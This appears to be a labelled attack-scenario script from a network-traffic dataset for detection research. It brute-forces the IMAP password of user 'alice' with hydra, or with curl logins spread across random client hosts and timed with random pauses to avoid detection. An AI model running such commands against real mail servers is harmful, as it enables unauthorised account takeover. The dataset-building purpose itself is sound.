# label: malicious
# class: bruteforce
# twin: mail_forgetful
# tools: hydra curl dovecot-imapd
# about: Passwords of a mailbox are guessed over IMAP.
# command: hydra imap:// or curl imap://
# params: fast net=office TOOL=hydra TRIES=16 OPTS="-t 4" limit=22
# params: client net=far TOOL=curl TRIES=12 limit=22
words "$TRIES" >list
if [ "$TOOL" = hydra ]; then
	hydra -I -l alice -P list $OPTS imap://mail
else
	while read -r guess; do
		on "$(pick $CLIENTS)" curl -s --max-time 8 -u "alice:$guess" imap://mail/ &
		pause 0.3 1.2
	done <list
	wait
fi
true
